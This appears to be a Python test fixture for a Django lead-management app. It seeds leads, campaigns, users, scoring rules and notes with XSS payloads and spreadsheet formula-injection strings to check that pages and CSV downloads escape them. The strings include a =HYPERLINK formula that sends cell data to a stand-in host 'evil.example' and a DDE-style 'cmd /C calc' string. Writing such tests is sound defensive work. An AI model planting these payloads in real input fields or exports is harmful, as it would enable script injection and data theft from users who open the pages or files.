"""Lead data written by an attacker: HTML and script in every text a user or a marketing tool can set
(lead names, titles, companies, campaign names, rejection reasons and notes, rule labels, model
names, SDR names, interaction properties), plus spreadsheet formulas at the start of the texts that
reach CSV downloads. Built with the real state machine so every page and report has it to show."""

from datetime import timedelta

from django.utils import timezone

from handoff import services
from handoff.models import RejectionReason
from leads.models import InteractionKind
from tests.leads.factories import CampaignFactory, InteractionFactory, LeadFactory, UserFactory
from tests.scoring.builders import make_model

SCRIPT = "<script>window.__xss=1</script>"
IMG = "<img src=x onerror=window.__xss=1>"
BREAKOUT = '"><svg onload=window.__xss=1>'
PAYLOADS = (SCRIPT, IMG, BREAKOUT)
# What the same payloads look like once escaped by Django's templates.
ESCAPED_SCRIPT = "&lt;script&gt;window.__xss=1&lt;/script&gt;"

CAMPAIGN = f'=HYPERLINK("http://evil.example/?"&A1,"Open") {SCRIPT}'
REASON = f"@SUM(1+1)*cmd|' /C calc'!A0 {IMG}"
FIT_LABEL = f"+cmd {IMG}"
BEHAVIOR_LABEL = f"-2+3 {SCRIPT}"
MODEL_NAME = f"=1+1 {BREAKOUT}"
NOTE = f"{SCRIPT}{BREAKOUT} =cmd()"
PASSWORD = "pw-for-tests"  # UserFactory's


def build(now=None) -> dict:
    """Four MQLs of one hostile SDR in the default report period: one open, one accepted, one
    qualified, one rejected with a hostile reason and note."""
    now = now or timezone.now()
    sdr = UserFactory(username="sdr-hostile", first_name="=cmd()", last_name=IMG, role="SDR")
    manager = UserFactory(username="manager-hostile", role="Manager")
    marketer = UserFactory(username="marketer-hostile", role="Marketer")
    campaign = CampaignFactory(name=CAMPAIGN, spend=1000)
    reason = RejectionReason.objects.create(code="hostile", label=REASON, disqualifies=False)
    InteractionKind.objects.filter(slug="demo_request").update(label=f"Demo {IMG}")
    model = make_model(
        name=MODEL_NAME,
        threshold=10,
        fit=[(FIT_LABEL, "job_title", "contains", "vp", 20)],
        behavior=[{"kind": "demo_request", "label": BEHAVIOR_LABEL, "points": 40}],
        status="active",
    )
    fit_rule, behavior_rule = model.fit_rules.get(), model.behavior_rules.get()
    breakdown = [
        {"rule_id": behavior_rule.pk, "type": "behavior", "label": BEHAVIOR_LABEL, "points": 40},
        {"rule_id": fit_rule.pk, "type": "fit", "label": FIT_LABEL, "points": 20},
    ]
    handoffs = []
    for n in range(4):
        lead = LeadFactory(
            email=f"hostile{n}@evil.example",
            first_name=SCRIPT,
            last_name=IMG,
            job_title=f"VP {BREAKOUT}",
            company=f'=HYPERLINK("http://evil.example") {IMG}',
            industry=f"-1+1 {SCRIPT}",
            campaign=campaign,
            source="paid",
            score=60,
            fit_score=20,
            engagement_score=40,
            score_breakdown=breakdown,
        )
        InteractionFactory(
            lead=lead,
            kind=InteractionKind.objects.get(slug="demo_request"),
            properties={"path": SCRIPT, IMG: BREAKOUT},
            occurred_at=now - timedelta(days=2),
        )
        promotion = services.lead_promote_to_mql(
            lead=lead,
            score=60,
            breakdown=breakdown,
            model_version=model.version_label,
            now=now - timedelta(days=2, hours=n),
        )
        handoffs.append(promotion.handoff_id)
    services.handoff_accept(handoff_id=handoffs[1], actor=sdr, now=now - timedelta(days=1))
    services.handoff_accept(handoff_id=handoffs[2], actor=sdr, now=now - timedelta(days=1))
    services.handoff_qualify(
        handoff_id=handoffs[2],
        actor=sdr,
        budget=SCRIPT,
        authority=IMG,
        need=BREAKOUT,
        timing="=cmd()",
        note=NOTE,
        now=now - timedelta(hours=12),
    )
    services.handoff_reject(handoff_id=handoffs[3], actor=sdr, reason=reason, note=NOTE)
    return {
        "sdr": sdr,
        "manager": manager,
        "marketer": marketer,
        "handoffs": handoffs,
        "campaign": campaign,
        "reason": reason,
        "model": model,
    }
